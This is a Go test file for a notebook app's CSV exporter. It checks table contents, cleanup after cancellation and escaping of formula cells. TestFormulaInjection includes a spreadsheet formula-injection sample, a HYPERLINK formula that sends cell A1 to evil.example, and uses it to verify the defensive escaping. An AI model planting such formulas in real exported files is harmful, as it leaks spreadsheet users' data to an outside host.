package csvfile

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"sourcebook/internal/export"
)

// fixture loads one of the notebooks the vault package's tests build (see
// internal/export/vault/fixture_test.go).
func fixture(t testing.TB, name string) *export.Static {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("..", "vault", "testdata", "notebook-"+name+".json"))
	if err != nil {
		t.Fatal(err)
	}
	var nb export.Static
	if err := json.Unmarshal(b, &nb); err != nil {
		t.Fatal(err)
	}
	return &nb
}

// readTable reads a CSV file of the export as maps from header to cell.
func readTable(t *testing.T, dir, name string) []map[string]string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(dir, name))
	if err != nil {
		t.Fatal(err)
	}
	rest, ok := bytes.CutPrefix(b, []byte("\xEF\xBB\xBF"))
	if !ok {
		t.Errorf("%s has no UTF-8 byte order mark", name)
	}
	rows, err := csv.NewReader(bytes.NewReader(rest)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	var out []map[string]string
	for _, r := range rows[1:] {
		m := map[string]string{}
		for i, h := range rows[0] {
			m[h] = r[i]
		}
		out = append(out, m)
	}
	return out
}

func export1(t *testing.T, nb export.Notebook) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "csv")
	if err := Write(context.Background(), nb, dir, nil); err != nil {
		t.Fatal(err)
	}
	return dir
}

func TestSeeds(t *testing.T) {
	nb := fixture(t, "seeds")
	dir := export1(t, nb)
	sources := readTable(t, dir, "sources.csv")
	quotes := readTable(t, dir, "quotes.csv")
	notes := readTable(t, dir, "notes.csv")
	speakers := readTable(t, dir, "speakers.csv")
	stories := readTable(t, dir, "stories.csv")
	if len(sources) != 2 || len(quotes) != 9 || len(notes) != 7 || len(speakers) != 5 || len(stories) != 1 {
		t.Fatalf("rows: %d sources, %d quotes, %d notes, %d speakers, %d stories", len(sources), len(quotes), len(notes), len(speakers), len(stories))
	}
	if s := sources[1]; s["title"] != nb.SourceList[1].Title || s["outlet"] != "MyNation" || s["authors"] != "Roshni Tamta" ||
		s["stories"] != "Meta let Netflix read Facebook messages" || s["quotes"] != "3" || s["tags"] != "privacy" {
		t.Errorf("MyNation row: %v", s)
	}
	i := 0
	for _, s := range nb.SourceList {
		for _, q := range s.Quotes {
			r := quotes[i]
			i++
			if r["text"] != q.Text || r["uuid"] != q.UUID || r["source_title"] != s.Title || r["speaker"] != q.SpeakerName || r["group_uuid"] != q.GroupUUID {
				t.Errorf("quote row %v\nwant %+v", r, q)
			}
		}
	}
	for _, s := range speakers {
		if s["name"] == "Andy Stone" && (s["quotes"] != "3" || s["aliases"] != "Stone; andymstone") {
			t.Errorf("Andy Stone: %v", s)
		}
	}
	byTitle := map[string]map[string]string{}
	for _, n := range notes {
		byTitle[n["title"]] = n
	}
	if n := byTitle["Stone's denial"]; n["attached_kinds"] != "quote" || !strings.HasPrefix(n["attached_labels"], "Shockingly untrue") || n["body"] != nb.NoteList[0].Body {
		t.Errorf("Stone's denial: %v", n)
	}
	if n := byTitle[""]; n["attached_kinds"] != "passage" || n["highlighted"] != "for almost a decade" {
		t.Errorf("highlight: %v", n)
	}
	if s := stories[0]; s["sources"] != "2" || !strings.Contains(s["source_uuids"], nb.SourceList[0].UUID) {
		t.Errorf("story: %v", s)
	}
}

// TestFormulaInjection: a cell a spreadsheet would run comes out as text.
func TestFormulaInjection(t *testing.T) {
	evil := []string{"=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\tx", "=1"}
	nb := &export.Static{}
	for i, e := range evil {
		nb.SourceList = append(nb.SourceList, export.Source{UUID: "u" + string(rune('a'+i)), Title: e, Outlet: e, Authors: []string{e},
			Quotes: []export.Quote{{UUID: "q" + string(rune('a'+i)), Text: e, SpeakerName: e}}})
	}
	nb.SpeakerList = []export.Speaker{{UUID: "s", Name: evil[0], Aliases: evil[1:]}}
	nb.NoteList = []export.Note{{UUID: "n", Title: evil[2], Body: evil[3]}}
	dir := export1(t, nb)
	for i, r := range readTable(t, dir, "sources.csv") {
		for _, col := range []string{"title", "outlet", "authors"} {
			if r[col] != "'"+evil[i] {
				t.Errorf("sources.csv %s = %q", col, r[col])
			}
		}
	}
	for i, r := range readTable(t, dir, "quotes.csv") {
		if r["text"] != "'"+evil[i] || r["speaker"] != "'"+evil[i] || r["source_title"] != "'"+evil[i] {
			t.Errorf("quotes.csv row %v", r)
		}
	}
	if r := readTable(t, dir, "speakers.csv")[0]; r["name"] != "'"+evil[0] || !strings.HasPrefix(r["aliases"], "'+1+2; ") {
		t.Errorf("speakers.csv row %v", r)
	}
	if r := readTable(t, dir, "notes.csv")[0]; r["title"] != "'-2+3" || r["body"] != "'@SUM(A1:A9)" {
		t.Errorf("notes.csv row %v", r)
	}
}

// TestHostile: titles with quotes, commas, newlines and HTML read back.
func TestHostile(t *testing.T) {
	nb := fixture(t, "hostile")
	dir := export1(t, nb)
	rows := readTable(t, dir, "sources.csv")
	for i, s := range nb.SourceList {
		if rows[i]["title"] != Defuse(s.Title) {
			t.Errorf("title %q read back as %q", s.Title, rows[i]["title"])
		}
	}
	readTable(t, dir, "notes.csv")
	readTable(t, dir, "quotes.csv")
}

func TestExistingFolder(t *testing.T) {
	dir := t.TempDir()
	if err := Write(context.Background(), fixture(t, "seeds"), dir, nil); !errors.Is(err, fs.ErrExist) {
		t.Fatalf("Write into an existing folder: %v", err)
	}
}

type cancelling struct {
	*export.Static
	cancel context.CancelFunc
}

func (c cancelling) EachSource(ctx context.Context, fn func(export.Source) error) error {
	for _, s := range c.SourceList {
		if err := fn(s); err != nil {
			return err
		}
		c.cancel()
	}
	return nil
}

func TestCancelled(t *testing.T) {
	parent := t.TempDir()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var calls int
	err := Write(ctx, cancelling{fixture(t, "seeds"), cancel}, filepath.Join(parent, "csv"), func(int, int) { calls++ })
	if !errors.Is(err, context.Canceled) || calls != 1 {
		t.Fatalf("Write cancelled after a source: %v (%d progress calls)", err, calls)
	}
	if entries, _ := os.ReadDir(parent); len(entries) != 0 {
		t.Errorf("left behind: %v", entries)
	}
}

func TestDefuse(t *testing.T) {
	for in, want := range map[string]string{"": "", "=1": "'=1", "+": "'+", "-x": "'-x", "@a": "'@a", "\tx": "'\tx", "\r=1": "'\r=1", "a=1": "a=1", "’=": "’=", "'=1": "'=1"} {
		if got := Defuse(in); got != want {
			t.Errorf("Defuse(%q) = %q, want %q", in, got, want)
		}
	}
}
